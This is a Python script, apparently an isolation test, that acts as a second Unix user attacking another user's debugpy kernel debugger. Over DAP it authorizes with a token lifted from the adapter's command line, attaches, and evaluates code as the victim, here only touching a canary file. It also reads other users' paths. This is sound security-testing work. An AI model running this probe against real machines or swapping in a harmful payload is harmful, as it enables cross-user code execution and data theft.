"""A neighbour on the login node, going for someone's kernel debugger.

Run as the second unix user, standard library only. For every TCP address given it connects,
speaks DAP as a debugger client would (initialize, attach, then an evaluate that would create
the canary file as the kernel's owner), and as pydevd would to the adapter's server port (with
the access token read from the adapter's command line, when one is given). It also tries to
read and list the paths given. Prints, as JSON, what it connected to, what it received and
every error it met.
"""

import json
import os
import socket
import sys
import time


def frame(seq, command, arguments):
    body = json.dumps({"seq": seq, "type": "request", "command": command, "arguments": arguments}).encode()
    return b"Content-Length: %d\r\n\r\n" % len(body) + body


def attack(address, canary, token):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=2)
    code = "__import__('pathlib').Path(%r).touch()" % canary
    messages = [
        frame(1, "initialize", {"clientID": "intruder", "adapterID": "python", "pathFormat": "path"}),
        frame(2, "pydevdAuthorize", {"debugServerAccessToken": token or ""}),
        frame(3, "attach", {"justMyCode": False}),
        frame(4, "evaluate", {"expression": code, "context": "repl"}),
    ]
    received = b""
    sock.settimeout(0.5)
    for message in messages:
        try:
            sock.sendall(message)
        except OSError:
            break
        deadline = time.monotonic() + 0.5
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                chunk = b""
            if not chunk:
                deadline = 0
                break
            received += chunk
        if deadline == 0:
            break
    sock.close()
    return received.decode("utf-8", "replace")


def main():
    addresses, paths = json.loads(sys.argv[1]), json.loads(sys.argv[2])
    canary, token = sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else ""
    report = {"connected": [], "received": "", "errors": [], "read": []}
    for address in addresses:
        try:
            report["received"] += attack(address, canary, token)
            report["connected"].append(address)
        except OSError as exc:
            report["errors"].append("%s: %s" % (address, exc))
    for path in paths:
        try:
            if os.path.isdir(path):
                report["read"].append("%s: %s" % (path, os.listdir(path)))
            else:
                with open(path, "rb") as handle:
                    report["read"].append("%s: %r" % (path, handle.read(200)))
        except OSError as exc:
            report["errors"].append("%s: %s" % (path, exc))
    print(json.dumps(report))


if __name__ == "__main__":
    main()
